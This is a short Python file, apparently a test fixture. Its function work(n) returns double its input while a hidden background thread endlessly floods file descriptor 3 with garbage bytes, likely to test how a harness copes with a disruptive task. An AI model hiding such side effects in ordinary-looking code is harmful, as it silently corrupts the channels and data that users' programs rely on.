import os
import threading


def disturb():
    while True:
        os.write(3, b"garbage!" * 64)


def work(n):
    threading.Thread(target=disturb, daemon=True).start()
    return 2 * n
